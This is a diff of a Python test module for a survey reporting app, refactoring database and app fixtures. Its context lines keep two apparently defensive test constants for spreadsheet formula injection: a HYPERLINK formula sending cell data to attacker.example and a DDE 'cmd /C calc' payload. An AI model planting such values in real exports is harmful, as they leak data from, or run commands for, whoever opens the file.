@@ -24,40 +24,31 @@ from surveys.reports import cadre_report, campaign_overview, write_results_workb
 from surveys.roster import write_workbook
 from tests import report_campaign as hand_worked
 from tests.cli import CadreCli
-from tests.factories import BOX_KEYS, LEDGER_KEY, SECRET, make_campaign, small_roster_rows
+from tests.factories import make_campaign, small_roster_rows
 from tests.hr import anonymous_client, hr_client, log_in
-from tests.web import BASE_URL, FORM, client_fixture, parse, rater_paths  # noqa: F401
-from webforms import create_app
+from tests.web import (  # noqa: F401
+    BASE_URL,
+    FORM,
+    any_app_fixture,
+    client_fixture,
+    parse,
+    rater_paths,
+)
 
 FORMULA = '=HYPERLINK("http://attacker.example/?x="&B2,"详情 click")'
 HOSTILE_NAME = "=cmd|' /C calc'!A0\x01\x00王"
 
 
 @pytest.fixture
-def engine(database_url):
-    """The migrated engine of this run's database: SQLite, then PostgreSQL."""
-    engine = make_engine(database_url)
-    upgrade(engine)
-    yield engine
-    engine.dispose()
+def engine(any_engine):
+    """This run's database: SQLite, then PostgreSQL."""
+    return any_engine
 
 
 @pytest.fixture
-def app(engine, database_url, now):
+def app(any_app):
     """The real application on this run's database."""
-    application = create_app(
-        {
-            "SECRET_KEY": SECRET,
-            "DATABASE_URL": database_url,
-            "BASE_URL": BASE_URL,
-            "CLOCK": lambda: now,
-            "TESTING": True,
-            "BOX_KEYS": str(BOX_KEYS),
-            "LEDGER_KEY": str(LEDGER_KEY),
-        }
-    )
-    yield application
-    application.extensions["cadre_engine"].dispose()
+    return any_app
 
 
 def every_cell(data) -> list:
